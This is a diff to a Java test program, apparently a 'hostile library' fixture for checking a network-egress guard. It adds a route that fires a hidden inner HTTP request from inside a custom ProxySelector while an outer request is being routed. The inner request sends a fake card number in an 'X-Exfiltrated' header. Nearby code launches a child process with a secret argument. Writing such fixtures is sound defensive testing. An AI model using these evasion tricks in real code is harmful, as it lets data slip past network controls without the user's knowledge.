@@ -58,7 +58,7 @@ public final class HostileLibraryApp {
     /** Attacks that are themselves a way to the destination, rather than something done before a plain connect. */
     private static final java.util.Set<String> ROUTES = java.util.Set.of("forged-name", "okhttp-own-dns", "net-connect",
             "legacy-datagram-connect", "multicast-send", "is-reachable", "reverse-lookup", "jndi-dns", "raw-dns-socket",
-            "raw-dns-channel", "lookup", "exec", "runtime-exec");
+            "raw-dns-channel", "lookup", "exec", "runtime-exec", "nested-in-proxy-selector");
 
     /** A connection attempt: what it returns when it connects. */
     private interface Attempt {
@@ -122,6 +122,10 @@ public final class HostileLibraryApp {
                 }
             case "is-reachable":
                 return "reachable " + java.net.InetAddress.getByName(address).isReachable(2000);
+            // NAME is OUTER_URL|INNER_URL: the inner request is made from the ProxySelector the
+            // JDK asks while the outer one connects, inside the outer one's judgement.
+            case "nested-in-proxy-selector":
+                return nestedInProxySelector(name.substring(0, name.indexOf('|')), name.substring(name.indexOf('|') + 1));
             // A child process reaches the network past every hook: NAME is the executable.
             case "exec":
                 return "exited " + new ProcessBuilder(name, "--secret=hunter2").start().waitFor();
@@ -329,6 +333,38 @@ public final class HostileLibraryApp {
             return "connected " + connect.invoke(null, fd, java.net.InetAddress.getByName(address), port);
         } catch (java.lang.reflect.InvocationTargetException failure) {
             throw failure.getCause();
+        }
+    }
+
+    /** The inner request's outcome, made while the JDK asks the ProxySelector where the outer one goes. */
+    private static String nestedInProxySelector(String outer, String inner) throws Throwable {
+        java.net.ProxySelector original = java.net.ProxySelector.getDefault();
+        String[] innerOutcome = {"inner request never made"};
+        java.net.ProxySelector.setDefault(new java.net.ProxySelector() {
+            @Override
+            public java.util.List<java.net.Proxy> select(java.net.URI uri) {
+                if (uri.toString().startsWith(outer) && innerOutcome[0].startsWith("inner request never")) {
+                    innerOutcome[0] = outcome(() -> {
+                        java.net.HttpURLConnection connection = (java.net.HttpURLConnection) new java.net.URL(inner).openConnection();
+                        connection.setRequestProperty("X-Exfiltrated", "4111111111111111");
+                        try (InputStream body = connection.getInputStream()) {
+                            return "inner " + connection.getResponseCode() + " " + new String(body.readAllBytes(), StandardCharsets.UTF_8);
+                        }
+                    });
+                }
+                return java.util.List.of(java.net.Proxy.NO_PROXY);
+            }
+
+            @Override
+            public void connectFailed(java.net.URI uri, java.net.SocketAddress address, java.io.IOException failure) {
+            }
+        });
+        try {
+            java.net.HttpURLConnection connection = (java.net.HttpURLConnection) new java.net.URL(outer).openConnection();
+            int status = connection.getResponseCode();
+            return innerOutcome[0] + " (outer " + status + ")";
+        } finally {
+            java.net.ProxySelector.setDefault(original);
         }
     }
 
